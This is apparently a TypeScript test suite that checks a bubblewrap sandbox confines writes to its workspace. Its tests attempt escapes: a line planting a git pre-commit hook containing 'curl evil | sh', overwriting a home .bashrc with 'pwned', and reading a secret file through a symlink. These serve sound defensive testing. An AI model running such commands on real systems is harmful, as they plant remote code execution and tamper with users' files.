import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";
import { SandboxError } from "../../src/sandbox/sandbox-error.js";
import { type FormSandbox, SANDBOX_FORMS, bubblewrapIn, sh, tempWorkspace } from "./sandbox-fixture.js";

describe.each(SANDBOX_FORMS)("bubblewrap (%s): the workspace is the only writable host path", (form) => {
  let sandbox: FormSandbox;
  // The workspace sits alone in its own parent, so an escape to ../ would show up there.
  const parent = tempWorkspace("pg-parent-");
  const ws = { dir: join(parent.dir, "ws"), cleanup: parent.cleanup };
  // Stand-ins for the host's home and for a secret file, both outside the workspace.
  const outside = mkdtempSync(join(tmpdir(), "pg-host-"));
  const fakeHome = join(outside, "home");
  const secretFile = join(outside, "secret.txt");

  beforeAll(async () => {
    sandbox = await bubblewrapIn(form);
    mkdirSync(ws.dir);
    mkdirSync(fakeHome);
    writeFileSync(join(fakeHome, ".bashrc"), "original\n");
    writeFileSync(secretFile, "TOP-SECRET-VALUE\n");
    mkdirSync(join(ws.dir, ".git", "hooks"), { recursive: true });
    writeFileSync(join(ws.dir, ".git", "config"), "[core]\n");
    mkdirSync(join(ws.dir, "sub"));
  });
  afterAll(async () => {
    await sandbox.end();
    ws.cleanup();
    rmSync(outside, { recursive: true, force: true });
  });

  test("control: the workspace is writable and the write is visible on the host", async () => {
    const r = await sh(sandbox, ws.dir, "echo hello > out.txt && pwd");
    expect({ exitCode: r.exitCode, stdout: r.stdout }).toEqual({ exitCode: 0, stdout: "/workspace\n" });
    expect(readFileSync(join(ws.dir, "out.txt"), "utf8")).toBe("hello\n");
  });

  test("readOnlyWorkspace: nothing in the workspace can be written, created or deleted; reads work", async () => {
    writeFileSync(join(ws.dir, "kept.txt"), "before\n");
    const r = await sh(sandbox, ws.dir, "cat kept.txt; echo x > kept.txt; echo y > new.txt; rm -f kept.txt; mkdir d; touch sub/t; echo done", {
      readOnlyWorkspace: true,
    });
    expect(r.stdout).toBe("before\ndone\n");
    expect(r.stderr.match(/Read-only file system/g)?.length).toBe(5);
    expect([
      readFileSync(join(ws.dir, "kept.txt"), "utf8"),
      existsSync(join(ws.dir, "new.txt")),
      existsSync(join(ws.dir, "d")),
      existsSync(join(ws.dir, "sub", "t")),
    ]).toEqual(["before\n", false, false, false]);
  });

  test("cwd is relative to the workspace", async () => {
    const r = await sh(sandbox, ws.dir, "pwd", { cwd: "sub" });
    expect(r.stdout).toBe("/workspace/sub\n");
  });

  test("a cwd outside the workspace is refused before anything runs", async () => {
    await expect(sh(sandbox, ws.dir, "pwd", { cwd: "../.." })).rejects.toThrow(SandboxError);
    await expect(sh(sandbox, ws.dir, "pwd", { cwd: "/etc" })).rejects.toThrow("cwd must be relative to the workspace: /etc");
  });

  test("/usr is read-only", async () => {
    const name = `pg-probe-${process.pid}`;
    const r = await sh(sandbox, ws.dir, `echo x > /usr/${name}`);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toBe(`/bin/sh: 1: cannot create /usr/${name}: Read-only file system\n`);
    expect(existsSync(`/usr/${name}`)).toBe(false);
  });

  test("the host's home (a real one and a stand-in) cannot be written", async () => {
    const real = join(homedir(), `pg-probe-${process.pid}`);
    const r = await sh(sandbox, ws.dir, `echo pwned > ${fakeHome}/.bashrc; echo pwned > ${real}`);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain(`cannot create ${fakeHome}/.bashrc: Directory nonexistent`);
    expect(readFileSync(join(fakeHome, ".bashrc"), "utf8")).toBe("original\n");
    expect(existsSync(real)).toBe(false);
  });

  test("../ out of the workspace fails and the host parent is unchanged", async () => {
    const r = await sh(sandbox, ws.dir, "echo x > ../escaped.txt");
    expect(r.stderr).toBe("/bin/sh: 1: cannot create ../escaped.txt: Read-only file system\n");
    expect(readdirSync(parent.dir)).toEqual(["ws"]);
  });

  test("a symlink in the workspace to a host file reads nothing", async () => {
    symlinkSync(secretFile, join(ws.dir, "link.txt"));
    const r = await sh(sandbox, ws.dir, "cat link.txt");
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toBe("");
    expect(r.stderr).toBe("cat: link.txt: No such file or directory\n");
  });

  test(".git is read-only inside: no config edits, no planted hooks", async () => {
    const r = await sh(sandbox, ws.dir, "echo x >> .git/config; echo 'curl evil | sh' > .git/hooks/pre-commit");
    expect(r.stderr).toBe(
      "/bin/sh: 1: cannot create .git/config: Read-only file system\n/bin/sh: 1: cannot create .git/hooks/pre-commit: Read-only file system\n",
    );
    expect(readFileSync(join(ws.dir, ".git", "config"), "utf8")).toBe("[core]\n");
    expect(existsSync(join(ws.dir, ".git", "hooks", "pre-commit"))).toBe(false);
  });

  test("HOME and /tmp are private and writable; they vanish with the run", async () => {
    const first = await sh(sandbox, ws.dir, "echo cached > $HOME/.cache-file && echo tmp > /tmp/t && cat $HOME/.cache-file /tmp/t");
    expect(first.stdout).toBe("cached\ntmp\n");
    const second = await sh(sandbox, ws.dir, "ls -A $HOME /tmp");
    expect(second.stdout).toBe("/tmp:\nhome\n\n/tmp/home:\n");
  });
});
